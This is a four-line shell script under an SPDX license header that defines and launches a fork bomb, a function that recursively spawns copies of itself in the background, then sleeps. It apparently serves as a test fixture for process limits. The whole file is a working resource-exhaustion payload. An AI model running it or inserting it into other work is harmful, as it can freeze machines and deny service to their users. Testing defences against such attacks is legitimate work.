# SPDX-License-Identifier: LGPL-2.1 OR BSD-2-Clause
bomb() { bomb | bomb & }
bomb
sleep 1000
